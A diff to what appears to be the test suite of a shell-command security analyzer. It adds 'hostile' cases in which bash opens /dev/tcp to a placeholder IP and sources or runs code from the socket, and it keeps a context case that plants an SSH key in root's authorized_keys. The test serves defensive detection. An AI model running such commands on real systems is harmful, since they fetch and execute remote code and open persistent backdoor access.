@@ -190,6 +190,18 @@ const hostile: readonly Case[] = [
     ],
   ],
   [
+    'exec 9<>/dev/tcp/192.0.2.1/99; . /dev/fd/9',
+    ['connect exec from /dev/tcp/192.0.2.1/99 to 192.0.2.1:99', 'run /dev/fd/9 (source) <connection:192.0.2.1:99>'],
+  ],
+  [
+    'exec 9<>/dev/tcp/192.0.2.1/99; bash /proc/self/fd/9; cat /dev/fd/9',
+    ['connect exec from /dev/tcp/192.0.2.1/99 to 192.0.2.1:99', 'run bash /proc/self/fd/9 <connection:192.0.2.1:99>'],
+  ],
+  [
+    'exec 8< /etc/list; exec 9<>/dev/tcp/192.0.2.1/99; cat /dev/fd/8 | wc -l',
+    ['connect exec from /dev/tcp/192.0.2.1/99 to 192.0.2.1:99'],
+  ],
+  [
     'echo "ssh-rsa AAAA" >> /root/.ssh/authorized_keys; /usr/sbin/sshd -D &',
     ['write /root/.ssh/authorized_keys', 'run /usr/sbin/sshd -D &'],
   ],
